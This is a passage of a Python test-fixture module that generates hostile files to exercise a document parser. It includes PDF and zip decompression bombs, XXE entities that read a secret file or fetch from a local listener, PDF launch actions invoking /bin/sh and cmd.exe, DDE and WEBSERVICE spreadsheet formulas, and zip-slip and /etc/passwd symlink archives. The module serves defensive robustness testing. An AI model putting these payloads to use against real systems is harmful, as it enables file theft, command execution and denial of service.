"""Files made to hurt whoever reads them, or broken in ways that once did; none needs a network.

Each is a name and its bytes. ``outside`` is what they try to reach: a file they may not read, and
an address at which somebody listens.
"""

import io
import json
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path

from tests.places import ROOT

Made = tuple[str, bytes]
_TEXT = "De stad vraagt om te mogen afwijken van het reglement voor sociale woningen. "
_PDF = ROOT / "corpus" / "dossiers" / "oproep-wijkverbeteringscontracten-2021.pdf"
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_LARGE = 50_000_000


@dataclass(frozen=True, slots=True)
class Outside:
    """What a file must not get to."""

    secret: Path
    address: str  # http://127.0.0.1:port

    @property
    def file(self) -> str:
        """The secret as an address."""
        return self.secret.as_uri()


def hostile_files(outside: Outside) -> Iterator[Made]:
    """Every file, each with a name of its own."""
    families: dict[str, Iterator[Made]] = {
        "pdf": pdf_structures(),
        "stroom": pdf_streams(),
        "actie": pdf_actions(outside),
        "kapot": broken(),
        "zip": archives(),
        "office": office_files(outside),
        "web": web_pages(outside),
        "mail": mails(outside),
        "tekst": texts(),
        "regels": json_lines(),
        "beeld": images(),
        "naam": names(),
        "vermomd": disguised(),
        "groot": large(),
    }
    for family, files in families.items():
        for number, (name, data) in enumerate(files):
            yield (name if family == "naam" else f"{family}-{number:03}-{name}"), data


# PDF


def pdf_of(objects: Sequence[bytes], trailer: bytes = b"", start: int | None = None) -> bytes:
    """A PDF of these objects, numbered from 1; the first is the catalogue."""
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer <</Size %d/Root 1 0 R%b>>\n" % (len(objects) + 1, trailer)
    return bytes(out) + b"startxref\n%d\n%%%%EOF\n" % (table if start is None else start)


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<<%b/Length %d>>\nstream\n%b\nendstream" % (entries, len(data), data)


_CATALOGUE = b"<</Type/Catalog/Pages 2 0 R>>"
_PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
_WORDS = b"BT /F1 11 Tf 50 700 Td (%b) Tj ET" % _TEXT.encode()


def _page(entries: bytes = b"/MediaBox[0 0 595 842]", contents: bytes = b"4 0 R") -> bytes:
    return (
        b"<</Type/Page/Parent 2 0 R%b/Contents %b/Resources<</Font<</F1 5 0 R>>/XObject<</X 6 0 R>>"
        b">>>>" % (entries, contents)
    )


def _one_page(
    page: bytes = b"",
    content: bytes = b"",
    catalogue: bytes = _CATALOGUE,
    more: Sequence[bytes] = (),
) -> bytes:
    return pdf_of([catalogue, _PAGES, page or _page(), content or stream(_WORDS), _FONT, *more])


def pdf_structures() -> Iterator[Made]:
    """Trees and tables that loop, are too deep, or lie about their size."""
    yield "boom-in-zichzelf.pdf", pdf_of([_CATALOGUE, b"<</Type/Pages/Kids[2 0 R]/Count 1>>"])
    yield "boom-naar-wortel.pdf", pdf_of([_CATALOGUE, b"<</Type/Pages/Kids[1 0 R 2 0 R]/Count 9>>"])
    for depth in (100, 3000):
        nodes = [
            b"<</Type/Pages/Kids[%d 0 R]/Count 1/Parent %d 0 R>>" % (n + 1, n - 1)
            for n in range(2, depth)
        ]
        yield f"boom-{depth}-diep.pdf", pdf_of([_CATALOGUE, *nodes, _page()])
    for count in (-1, 0, 2**31 - 1, 10**12):
        yield (
            f"aantal-{count}.pdf",
            pdf_of([_CATALOGUE, b"<</Type/Pages/Kids[3 0 R]/Count %d>>" % count, _page()]),
        )
    kids = b" ".join([b"3 0 R"] * 20_000)
    yield (
        "twintigduizend-keer-dezelfde.pdf",
        pdf_of(
            [
                _CATALOGUE,
                b"<</Type/Pages/Kids[%b]/Count 20000>>" % kids,
                _page(),
                stream(b""),
                _FONT,
            ]
        ),
    )
    for name, wrong in (
        ("kind-is-tekst", b"(a)"),
        ("kind-is-getal", b"[7]"),
        ("kind-weg", b"[99 0 R]"),
    ):
        yield f"{name}.pdf", pdf_of([_CATALOGUE, b"<</Type/Pages/Kids %b/Count 1>>" % wrong])
    for box in (b"0 0 10000000 10000000", b"0 0 0 0", b"900 900 0 0", b"1e99 0 1e99 9", b"a b c d"):
        name = box.decode().replace(" ", "_")
        yield f"blad-{name}.pdf", _one_page(_page(b"/MediaBox[%b]" % box))
    yield "gedraaid-45.pdf", _one_page(_page(b"/MediaBox[0 0 595 842]/Rotate 45"))
    yield "eenheid-miljoen.pdf", _one_page(_page(b"/MediaBox[0 0 595 842]/UserUnit 1000000"))
    whole = _one_page()
    for name, start in (("nul", 0), ("buiten", 10**9), ("midden", 40)):
        yield f"tabel-{name}.pdf", pdf_of([_CATALOGUE, _PAGES, _page()], start=start)
    table = whole.rindex(b"xref\n0")
    yield (
        "tabel-loopt-rond.pdf",
        pdf_of([_CATALOGUE, _PAGES, _page(), stream(_WORDS), _FONT], b"/Prev %d" % table),
    )
    yield "tabel-van-een-miljard.pdf", whole.replace(b"xref\n0 6", b"xref\n0 999999999")
    yield "vakken-100000-diep.pdf", pdf_of([_CATALOGUE, _PAGES, b"[" * 100_000, stream(b"")])
    yield "lijsten-100000-diep.pdf", pdf_of([b"<</A" * 100_000, _PAGES])
    yield (
        "bladwijzers-rond.pdf",
        _one_page(
            catalogue=b"<</Type/Catalog/Pages 2 0 R/Outlines 6 0 R>>",
            more=[b"<</First 6 0 R/Next 6 0 R/Last 6 0 R/Title(a)>>"],
        ),
    )
    yield (
        "namen-rond.pdf",
        _one_page(
            catalogue=b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles 6 0 R>>>>",
            more=[b"<</Kids[6 0 R 6 0 R]>>"],
        ),
    )
    yield (
        "velden-rond.pdf",
        _one_page(
            catalogue=b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[6 0 R]>>>>",
            more=[b"<</T(a)/Kids[6 0 R]/Parent 6 0 R>>"],
        ),
    )
    yield "inhoud-is-zichzelf.pdf", _one_page(_page(contents=b"[3 0 R 4 0 R 3 0 R]"))
    yield (
        "lengte-verwijst-naar-zichzelf.pdf",
        _one_page(content=b"<</Length 4 0 R>>\nstream\n%b\nendstream" % _WORDS),
    )
    yield "nietige-sleutel.pdf", _one_page().replace(b"/Root 1 0 R", b"/Root 1 0 R/Encrypt 5 0 R")
    yield from _encrypted()


def _encrypted() -> Iterator[Made]:
    import pypdf

    for algorithm in ("RC4-40", "RC4-128"):
        for user in ("geheim", ""):
            writer = pypdf.PdfWriter(clone_from=_PDF)
            writer.encrypt(user, "eigenaar", algorithm=algorithm)
            out = io.BytesIO()
            writer.write(out)
            yield f"slot-{algorithm}-{'dicht' if user else 'open'}.pdf", out.getvalue()


def zeros(size: int) -> bytes:
    """A zlib stream that unpacks to so many zeros, made by repeating one packed million."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    million = packer.compress(bytes(1_000_000)) + packer.flush(zlib.Z_FULL_FLUSH)
    return b"\x78\xda" + million * (size // 1_000_000) + b"\x03\x00" + b"\x00\x00\x00\x00"


def pdf_streams() -> Iterator[Made]:
    """Streams that grow when they are unpacked, and content that works long for little."""
    flate = b"/Filter/FlateDecode"
    yield "bom-2GB.pdf", _one_page(content=stream(zeros(2_000_000_000), flate))
    twice = zlib.compress(zeros(1_000_000_000), 9)
    yield "bom-dubbel.pdf", _one_page(content=stream(twice, b"/Filter[/FlateDecode/FlateDecode]"))
    many = b"/Filter[%b]" % (b"/FlateDecode" * 500)
    yield "vijfhonderd-filters.pdf", _one_page(content=stream(zeros(1_000_000), many))
    runs = bytes([129, 0x20]) * 3_000_000
    yield "bom-runlength.pdf", _one_page(content=stream(runs + b"\x80", b"/Filter/RunLengthDecode"))
    wide = b"/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 2000000000>>"
    yield "voorspeller.pdf", _one_page(content=stream(zeros(3_000_000), wide))
    for name, content in (
        ("diep-in-q", b"q " * 2_000_000 + _WORDS),
        ("diep-in-tekst", b"BT " * 500_000 + _WORDS),
        ("haken", b"(" * 1_000_000),
        ("lijst", b"[" * 500_000 + b"]" * 500_000 + b" TJ"),
        ("een-miljoen-letters", b"BT /F1 1 Tf " + b"1 0 0 1 5 5 Tm (a) Tj " * 300_000 + b"ET"),
        ("een-miljoen-lijnen", b"0 0 m 9 9 l S " * 500_000 + _WORDS),
        ("groot-lettertype", b"BT /F1 1e30 Tf 0 0 Td (groot) Tj ET " + _WORDS),
        ("onmeetbaar", b"BT /F1 nan Tf 1e400 -1e400 Td (x) Tj ET " + _WORDS),
        ("geen-einde", _WORDS[:-10]),
    ):
        yield f"inhoud-{name}.pdf", _one_page(content=stream(zlib.compress(content), flate))
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>"
    yield (
        "vorm-tekent-zichzelf.pdf",
        _one_page(content=stream(b"/X Do " + _WORDS), more=[stream(b"/X Do /X Do", form)]),
    )
    forms = [
        stream(
            b"/X Do " * 10,
            form.replace(b"6 0 R", b"%d 0 R" % (number + 1)),
        )
        for number in range(6, 18)
    ]
    yield (
        "vormen-tien-tot-de-twaalfde.pdf",
        _one_page(content=stream(b"/X Do " + _WORDS), more=[*forms, stream(b"0 0 m", form)]),
    )
    for name, kind in (
        ("plat", b"/Filter/FlateDecode/ColorSpace/DeviceRGB/BitsPerComponent 8"),
        ("fax", b"/Filter/CCITTFaxDecode/ColorSpace/DeviceGray/BitsPerComponent 1"),
        ("jpeg", b"/Filter/DCTDecode/ColorSpace/DeviceRGB/BitsPerComponent 8"),
        ("jpx", b"/Filter/JPXDecode"),
        ("jbig2", b"/Filter/JBIG2Decode/ColorSpace/DeviceGray/BitsPerComponent 1"),
    ):
        for side in (60_000, 2_000_000_000):
            image = b"/Type/XObject/Subtype/Image/Width %d/Height %d%b" % (side, side, kind)
            yield (
                f"beeld-{name}-{side}.pdf",
                _one_page(
                    content=stream(b"595 0 0 842 0 0 cm /X Do"),
                    more=[stream(zeros(2_000_000), image)],
                ),
            )
    codes = b"1 beginbfrange <0000> <ffffffff> <0041> endbfrange"
    unicode_map = b"begincmap 1 begincodespacerange <00><ff> endcodespacerange " + codes * 1000
    font = b"<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/Identity-H/ToUnicode 6 0 R>>"
    yield (
        "tekens-zonder-einde.pdf",
        pdf_of([_CATALOGUE, _PAGES, _page(), stream(_WORDS), font, stream(unicode_map)]),
    )


def pdf_actions(outside: Outside) -> Iterator[Made]:
    """Files that want a program started, an address fetched or another file opened."""
    address, file = outside.address.encode(), str(outside.secret).encode()
    actions = {
        "javascript": b"/S/JavaScript/JS(app.launchURL\\('%b'\\);this.submitForm\\('%b'\\))"
        % (address, address),
        "start-programma": b"/S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>",
        "adres": b"/S/URI/URI(%b/uri)" % address,
        "formulier": b"/S/SubmitForm/F<</FS/URL/F(%b/form)>>" % address,
        "ander-bestand": b"/S/GoToR/F(%b)/D[0/Fit]" % file,
        "invoer": b"/S/ImportData/F(%b)" % file,
    }
    for name, action in actions.items():
        catalogue = b"<</Type/Catalog/Pages 2 0 R/OpenAction<<%b>>>>" % action
        yield f"{name}.pdf", _one_page(catalogue=catalogue)
        link = b"/MediaBox[0 0 595 842]/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<<%b>>>>]"
        yield f"{name}-op-blad.pdf", _one_page(_page(link % action))
    for name, external in {"adres": address, "bestand": file}.items():
        content = b"<</Length 0/FFilter/FlateDecode/F(%b)>>\nstream\n\nendstream" % external
        yield f"inhoud-elders-{name}.pdf", _one_page(content=content)
    program = stream(b"MZ\x90\x00" + bytes(5000), b"/Type/EmbeddedFile")
    for title in (b"factuur.exe", b"../../../tmp/ontsnapt.txt", b"/etc/cron.d/x", b"-rf", b""):
        catalogue = (
            b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(%b)"
            b"/UF(%b)/EF<</F 6 0 R>>>>]>>>>>>" % (title, title)
        )
        yield f"bijlage-{len(title)}.pdf", _one_page(catalogue=catalogue, more=[program])
    form = (
        f'<!DOCTYPE x [<!ENTITY e SYSTEM "{outside.file}">]><xdp:xdp xmlns:xdp="x">&e;</xdp:xdp>'
    ).encode()
    yield (
        "xfa.pdf",
        _one_page(
            catalogue=b"<</Type/Catalog/Pages 2 0 R/AcroForm<</XFA 6 0 R/Fields[]>>>>",
            more=[stream(form)],
        ),
    )
    yield (
        "xmp.pdf",
        _one_page(
            catalogue=b"<</Type/Catalog/Pages 2 0 R/Metadata 6 0 R>>",
            more=[stream(form, b"/Type/Metadata/Subtype/XML")],
        ),
    )


def broken() -> Iterator[Made]:
    """Real files cut off or with bytes changed."""
    for path in sorted((ROOT / "corpus" / "dossiers").iterdir()):
        if path.name.startswith(("oproep", "sv-9188-antwoord", "gsv")):
            data = path.read_bytes()
            for share in (0.02, 0.5, 0.98):
                yield f"afgebroken-{share}{path.suffix}", data[: int(share * len(data))]
            for seed in range(9):
                yield f"gewijzigd-{seed}{path.suffix}", mutated(data, random.Random(seed))


def mutated(data: bytes, chance: random.Random) -> bytes:
    """The bytes with a few of them changed, doubled, removed or put elsewhere."""
    out = bytearray(data)
    for _ in range(chance.choice((1, 3, 10, 60))):
        if not out:
            break
        at, size = chance.randrange(len(out)), chance.choice((1, 2, 8, 64, 1000))
        kind = chance.randrange(6)
        if kind == 0:
            out[at] = chance.randrange(256)
        elif kind == 1:
            out[at : at + size] = chance.randbytes(size)
        elif kind == 2:
            del out[at : at + size]
        elif kind == 3:
            other = chance.randrange(len(out))
            out[at:at] = out[other : other + size]
        elif kind == 4:
            out[at : at + 1] = chance.choice(
                (b"0", b"-1", b"999999999", b"\xff\xff\xff\xff", b"%n")
            )
        else:
            out[at] ^= 1 << chance.randrange(8)
    return bytes(out)


# Archives and office files


def zip_of(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    return out.getvalue()


def packed_zip(name: str, packed: bytes, size: int, method: int = 8, flags: int = 0) -> bytes:
    """An archive of one file that is packed already; its check sum is not right."""
    title = name.encode()
    local = struct.pack(
        "<IHHHHHIIIHH", 0x04034B50, 20, flags, method, 0, 0, 0, len(packed), size, len(title), 0
    )
    central = struct.pack(
        "<IHHHHHHIIIHHHHHII",
        *(0x02014B50, 20, 20, flags, method, 0, 0, 0, len(packed), size, len(title)),
        *(0, 0, 0, 0, 0, 0),
    )
    begin = len(local) + len(title) + len(packed)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central) + len(title), begin, 0)
    return local + title + packed + central + title + end


def archives() -> Iterator[Made]:
    """Archives that grow, nest, lie or want to write elsewhere."""
    bomb = zeros(4_000_000_000)[2:-4]
    yield "bom.zip", packed_zip("a.txt", bomb, 4_000_000_000)
    yield "bom-liegt.zip", packed_zip("a.txt", bomb, 10)
    yield "bom-als-pdf.zip", packed_zip("a.pdf", bomb, 4_000_000_000)
    nested = zip_of({"a.txt": _TEXT.encode()})
    for _ in range(40):
        nested = zip_of({"binnen.zip": nested})
    yield "veertig-diep.zip", nested
    inner = packed_zip("a.txt", bomb[:500_000], 500_000_000)
    yield "bommen-in-zip.zip", zip_of({f"{n}.zip": inner for n in range(30)})
    yield "dertigduizend.zip", zip_of({f"{n}.txt": b"a" for n in range(30_000)})
    yield (
        "tweehonderd-pdfs.zip",
        zip_of({f"{n}.pdf": b"%PDF-1.7\n" + bytes([n]) for n in range(200)}),
    )
    for number, name in enumerate(
        (
            "../../../../tmp/ontsnapt.txt",
            "/tmp/ontsnapt.txt",
            "C:\\Windows\\ontsnapt.txt",
            "..\\..\\ontsnapt.txt",
            "a/" * 500 + "a.txt",
            "n" * 60_000 + ".txt",
            "-rf",
            "<script>alert(1)</script>.txt",
            "a\x00.txt.exe",
            "",
            ".",
            "con.txt",
        )
    ):
        yield f"naam-{number}.zip", zip_of({name: _TEXT.encode()})
    link = zipfile.ZipInfo("koppeling.txt")
    link.external_attr = 0o120777 << 16
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(link, "/etc/passwd")
    yield "koppeling.zip", out.getvalue()
    yield "dubbele-namen.zip", zip_of({"a.txt": b"een"}) + zip_of({"a.txt": b"twee"})
    yield "slot.zip", packed_zip("a.txt", b"x" * 90, 90, 0, flags=1)
    yield "onbekend-gepakt.zip", packed_zip("a.txt", b"x" * 90, 90, 97)
    good = zip_of({"a.txt": _TEXT.encode() * 50, "b.txt": _TEXT.encode()})
    for at in (30, len(good) // 2, len(good) - 10):
        yield f"afgebroken-{at}.zip", good[:at]
    import bz2
    import gzip
    import lzma

    yield "bom.gz", gzip.compress(b"")[:10] + bomb[:1_000_000]
    yield "bom.docx.gz", gzip.compress(zip_of({"word/document.xml": b"<a/>"}))
    yield "bom.bz2", bz2.compress(bytes(3_000_000))
    yield "bom.xz", lzma.compress(bytes(3_000_000))
    yield "kop.7z", b"7z\xbc\xaf\x27\x1c" + bytes(90)
    yield "kop.rar", b"Rar!\x1a\x07\x00" + bytes(90)


def _docx(body: str, head: str = "", parts: dict[str, bytes] | None = None) -> bytes:
    text = f'<w:document xmlns:w="{_W}"><w:body>{body}</w:body></w:document>'
    document = f'<?xml version="1.0"?>{head}{text}'
    return zip_of(
        {
            "[Content_Types].xml": b"<Types/>",
            "word/document.xml": document.encode(),
            **(parts or {}),
        }
    )


def _laughs(levels: int = 12) -> str:
    entities = "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' if n else '<!ENTITY l0 "lach">'
        for n in range(levels)
    )
    return f"<!DOCTYPE x [{entities}]>"


def _paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def office_files(outside: Outside) -> Iterator[Made]:
    """Word, OpenDocument and spreadsheet files with XML that bites."""
    read = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{outside.file}">]>'
    fetch = f'<!DOCTYPE x SYSTEM "{outside.address}/x.dtd">'
    parameter = f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{outside.address}/p">%p;]>'
    for name, head, body in (
        ("lachbom", _laughs(), _paragraph("&l11;")),
        ("kwadraat", f'<!DOCTYPE x [<!ENTITY a "{"a" * 100_000}">]>', _paragraph("&a;" * 20_000)),
        ("leest-bestand", read, _paragraph("&e;")),
        ("haalt-op", fetch, _paragraph(_TEXT)),
        ("haalt-op-binnenin", parameter, _paragraph(_TEXT)),
        ("entiteit-rond", '<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', _paragraph("&a;")),
    ):
        yield f"{name}.docx", _docx(body, head)
    links = "".join(
        f'<Relationship Id="r{n}" Type="image" TargetMode="External" Target="{target}"/>'
        for n, target in enumerate((f"{outside.address}/i.png", outside.file, "\\\\127.0.0.1\\x"))
    )
    yield (
        "koppelingen.docx",
        _docx(
            _paragraph(_TEXT),
            parts={
                "word/_rels/document.xml.rels": f"<Relationships>{links}</Relationships>".encode()
            },
        ),
    )
    field = f'<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;{outside.secret}&quot;"/></w:p>'
    yield "veld-neemt-bestand-op.docx", _docx(field)
    yield (
        "macro.docx",
        _docx(_paragraph(_TEXT), parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 90}),
    )
    span = '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="100000000"/></w:tcPr>' + _paragraph("a")
    yield "cel-van-honderd-miljoen.docx", _docx(span + "</w:tc></w:tr></w:tbl>")
    for depth in (300, 100_000):
        table = "<w:tbl><w:tr><w:tc>" * depth + _paragraph("a") + "</w:tc></w:tr></w:tbl>" * depth
        yield f"tabel-{depth}-diep.docx", _docx(table)
    yield (
        "niveau-miljard.docx",
        _docx(
            f'<w:p><w:pPr><w:numPr><w:ilvl w:val="999999999"/><w:numId w:val="-5"/></w:numPr>'
            "</w:pPr>"
            f"<w:r><w:t>{_TEXT}</w:t></w:r></w:p>"
        ),
    )
    yield "miljoen-alineas.docx", _docx(_paragraph("a") * 400_000)
    yield "zonder-tekst.docx", zip_of({"word/styles.xml": b"<a/>"})
    yield "xml-is-afbeelding.docx", zip_of({"word/document.xml": b"\x89PNG" + bytes(900)})
    xml = zeros(3_000_000_000)[2:-4]
    yield "bom.docx", packed_zip("word/document.xml", xml, 3_000_000_000)
    yield "bom.xlsx", packed_zip("xl/workbook.xml", xml, 3_000_000_000)
    yield "bom.odt", packed_zip("content.xml", xml, 3_000_000_000)
    yield from _sheets(outside)
    yield from _open_documents(read, fetch)
    group = "<p:grpSp>" * 20_000 + "</p:grpSp>" * 20_000
    slide = f'<p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main">{group}</p:sld>'
    yield (
        "groepen-diep.pptx",
        zip_of(
            {
                "[Content_Types].xml": b"<Types/>",
                "ppt/presentation.xml": b"<p/>",
                "ppt/slides/slide1.xml": slide.encode(),
            }
        ),
    )
    for seed in range(4):
        yield (
            f"oud-{seed}.doc",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + random.Random(seed).randbytes(9000),
        )


def _sheets(outside: Outside) -> Iterator[Made]:
    import xlsxwriter

    for name, cells in (
        ("uiterste-cel", {(0, 0): "begin", (1_048_575, 16_383): "einde"}),
        ("formules", {(0, 0): f'=WEBSERVICE("{outside.address}")', (1, 0): "=cmd|' /c calc'!A0"}),
        ("opmaak", {(0, 0): "<b>" * 5000}),
    ):
        out = io.BytesIO()
        with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
            sheet = book.add_worksheet()
            for (row, column), value in cells.items():
                sheet.write(row, column, value)
        yield f"{name}.xlsx", out.getvalue()


def _open_documents(read: str, fetch: str) -> Iterator[Made]:
    space = 'xmlns:o="urn:oasis:names:tc:opendocument:xmlns:office:1.0" ' + " ".join(
        f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
        for name in ("text", "table")
    )
    row = (
        '<table:table-row table:number-rows-repeated="1000000">'
        '<table:table-cell table:number-columns-repeated="1000000"><text:p>a</text:p>'
        "</table:table-cell>"
        "</table:table-row>"
    )
    bodies = {
        "herhaald.ods": (
            "",
            f"<o:spreadsheet><table:table>{row * 50}</table:table></o:spreadsheet>",
        ),
        "spaties.odt": ("", '<o:text><text:p>a<text:s text:c="2000000000"/>b</text:p></o:text>'),
        "leest.odt": (read, "<o:text><text:p>&e;</text:p></o:text>"),
        "haalt.odt": (fetch, f"<o:text><text:p>{_TEXT}</text:p></o:text>"),
        "lachbom.odt": (_laughs(), "<o:text><text:p>&l11;</text:p></o:text>"),
        "lijst-diep.odt": (
            "",
            f"<o:text>{'<text:list><text:list-item>' * 30_000}</o:text>",
        ),
    }
    for name, (head, body) in bodies.items():
        whole = f"<o:document-content {space}><o:body>{body}</o:body></o:document-content>"
        content = f'<?xml version="1.0"?>{head}{whole}'
        kind = "spreadsheet" if name.endswith("s") else "text"
        mime = f"application/vnd.oasis.opendocument.{kind}".encode()
        yield name, zip_of({"mimetype": mime, "content.xml": content.encode()})


# Web pages, mails, texts


def web_pages(outside: Outside) -> Iterator[Made]:
    """Pages that load, nest without end, or claim an encoding they have not."""
    address = outside.address
    loads = (
        f'<meta http-equiv="refresh" content="0;url={address}/r"><base href="{address}/">'
        f'<link rel="stylesheet" href="{address}/s.css"><script src="{address}/s.js"></script>'
        f'<img src="{address}/i.png"><iframe src="{outside.file}"></iframe>'
        f'<object data="{outside.file}"></object><embed src="{address}/e">'
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" '
        f'href="{outside.file}"/>'
    )
    read = f'<!DOCTYPE html [<!ENTITY e SYSTEM "{outside.file}">]>'

    def page(body: str, head: str = "") -> bytes:
        return f"<!DOCTYPE html><html><head>{head}</head><body>{body}</body></html>".encode()

    yield "laadt.html", page(f"<p>{_TEXT}</p>", loads)
    yield "entiteit.html", f"{read}<html><body><p>&e; {_TEXT}</p></body></html>".encode()
    yield "lachbom.html", f"{_laughs()}<html><body><p>&l11;</p></body></html>".encode()
    for tag in ("div", "ul><li", "table><tr><td", "b", "blockquote"):
        yield f"diep-{tag[:2]}.html", page(f"<{tag}>" * 50_000 + _TEXT)
    yield "lang-kenmerk.html", page(f'<p title="{"a" * 10_000_000}">{_TEXT}</p>')
    yield "miljoen-tags.html", page("<p>a" * 300_000)
    yield "alleen-script.html", page("<script>while(true){}</script>")
    yield (
        "cel.html",
        page('<table><tr><td colspan="999999999" rowspan="999999999">a</td></tr></table>'),
    )
    yield "lijst.html", page('<ol start="99999999999999999999"><li value="-9e99">a</li></ol>')
    for name in ("utf-7", "utf-16", "bestaat-niet", "idna"):
        yield f"tekens-{name}.html", page(f"<p>{_TEXT} café</p>", f'<meta charset="{name}">')
    yield "nullen.html", page("<p>" + "a\x00b" * 5000 + _TEXT)
    yield "uitspraak.html", page("<![CDATA[" * 9000 + "<!--" * 9000 + _TEXT)


def mails(outside: Outside) -> Iterator[Made]:
    """Mails in mails, parts without end, and attachments with names that go elsewhere."""
    head = "From: a@b.be\nTo: c@d.be\nSubject: Wijk\nMIME-Version: 1.0\n"
    nested = f"{head}Content-Type: text/plain\n\n{_TEXT}\n"
    for depth in range(60):
        mark = f"=={depth}"
        nested = (
            f'{head}Content-Type: multipart/mixed; boundary="{mark}"\n\n--{mark}\n'
            f"Content-Type: message/rfc822\n\n{nested}\n--{mark}--\n"
        )
    yield "zestig-diep.eml", nested.encode()
    yield (
        "grens-in-grens.eml",
        (
            f'{head}Content-Type: multipart/mixed; boundary="a"\n\n' + "--a\n\nx\n" * 100_000
        ).encode(),
    )
    for name in ("../../ontsnapt.txt", "/etc/cron.d/x", "-rf", "<b>.txt", "a.pdf\x00.exe"):
        yield (
            f"bijlage-{len(name)}.eml",
            (
                f'{head}Content-Type: multipart/mixed; boundary="a"\n\n'
                "--a\nContent-Type: text/plain\n"
                f'Content-Disposition: attachment; filename="{name}"\n\n{_TEXT}\n--a--\n'
            ).encode(),
        )
    yield (
        "elders.eml",
        (
            f"{head}Content-Type: message/external-body; access-type=URL; "
            f'URL="{outside.address}/m"\n\n'
            f"Content-Type: text/plain\n\n"
        ).encode(),
    )
    yield (
        "verkeerd-gecodeerd.eml",
        (
            f"{head}Content-Type: text/plain; charset=bestaat-niet\n"
            "Content-Transfer-Encoding: base64\n\n" + "%%%" * 9000
        ).encode(),
    )
    yield "kop-woorden.eml", (f"Subject: {'=?utf-8?q?a?= ' * 100_000}\n{head}\n{_TEXT}").encode()


def texts() -> Iterator[Made]:
    """Plain text, Markdown and RTF that take long, or are no text."""
    for name, text in (
        ("een-regel", "a" * 5_000_000),
        ("haken", "(" * 500_000),
        ("cijfers", "1" * 2_000_000),
        ("nummers", "".join(f"{n}. " for n in range(200_000))),
        ("punten", ". " * 1_000_000),
        ("streepjes", "-" * 2_000_000),
        ("koppelstreepjes", "-\n" * 300_000),
        ("artikels", "artikel 1 " * 100_000),
        ("euro", "1.000.000,00 euro " * 50_000),
        ("datums", "1 januari 2021 tot 31 december 2025 " * 30_000),
        ("strepen", "| a " * 300_000),
        ("regels", "\n" * 3_000_000 + "a"),
        ("hoofdletters", "OCMW CAW VDAB " * 80_000),
        ("vraagtekens", "Wat? " * 200_000),
        ("afwijken", "af te wijken van " * 60_000),
        ("richting", "\u202e\u2066" * 100_000 + _TEXT),
        ("samengesteld", "e" + "\u0301" * 300_000),
    ):
        yield f"{name}.txt", text.encode()
    for name, mark in (
        ("haakjes", "[" * 100_000),
        ("gedachten", ">" * 50_000 + "a"),
        ("lijsten", "".join(f"{' ' * n}- a\n" for n in range(2000))),
        ("sterren", "*a **b " * 50_000),
        ("code", "`" * 100_000 + "a"),
        ("tabel", "|a" * 20_000 + "\n" + "|-" * 20_000 + "\n"),
        ("koppelingen", "[a](<b " * 30_000),
    ):
        yield f"{name}.md", f"# Kop\n\n## Kop\n\n{mark}".encode()
    yield (
        "gemengd.txt",
        "café ".encode() * 90 + "café ".encode("cp1252") * 90 + "café".encode("utf-16"),
    )
    yield "oneven-utf16.txt", "De stad".encode("utf-16")[:-1]
    yield "halve-paren.txt", b"\xff\xfe" + b"\x00\xd8" * 5000 + "tekst".encode("utf-16-le")
    yield "nullen.txt", b"De stad\x00\x00" * 9000
    yield "besturing.txt", bytes(range(1, 32)) * 900
    for name, body in (
        ("diep", "{" * 200_000),
        ("binair", "\\bin999999999 a"),
        ("voorwerp", "{\\object\\objdata " + "41" * 500_000 + "}"),
        ("unicode", "\\u99999999? " * 50_000),
        ("tabel", "\\trowd" + "\\cellx99999999" * 50_000),
    ):
        yield f"{name}.rtf", ("{\\rtf1\\ansi " + body + _TEXT + "}").encode()


def json_lines() -> Iterator[Made]:
    """Lines of JSON that are deep, wrong or not what they seem."""
    good = json.dumps({"_id": "a", "text": _TEXT, "title": "Nota"})
    for name, line in (
        ("diep", '{"text": ' + "[" * 200_000 + "]" * 200_000 + "}"),
        ("getal", '{"text": ' + "9" * 1_000_000 + "}"),
        ("halve-paren", '{"_id": "\\ud800", "text": "De stad \\udfff", "title": "\\ud83d"}'),
        ("dubbel", '{"text": "een", "text": "twee", "_id": 1, "_id": [2]}'),
